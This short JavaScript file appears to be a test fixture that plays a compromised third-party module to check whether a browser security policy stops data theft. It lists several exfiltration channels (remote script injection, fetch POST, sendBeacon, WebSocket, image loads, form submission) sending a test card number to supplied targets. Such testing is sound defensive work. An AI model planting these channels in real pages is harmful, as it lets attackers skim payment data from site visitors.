// A third-party module, from the CDN. The policy lets it in: it was signed once. What it does
// now was not in the review.
"use strict";

window.septemModule = (() => {
  const stolen = "card=4111111111111111";

  const attempts = {
    eval: () => (0, eval)('septem.land("eval")'),

    "added-script": (target) => {
      const script = document.createElement("script");
      script.src = target;
      document.body.append(script);
    },

    fetch: (target) =>
      fetch(target, { method: "POST", mode: "no-cors", body: stolen }).then(() =>
        septem.land("fetch"),
      ),

    websocket: (target) => {
      const socket = new WebSocket(target);
      socket.onopen = () => septem.land("websocket");
    },

    beacon: (target) => navigator.sendBeacon(target, stolen),

    image: (target) => {
      const image = new Image();
      image.onload = () => septem.land("image");
      image.src = target;
    },

    form: () => document.getElementById("stolen").submit(),

    tenant: (target) =>
      fetch(target, { mode: "no-cors" }).then(() => septem.land("tenant")),
  };

  return { attempt: (name, target) => attempts[name](target) };
})();
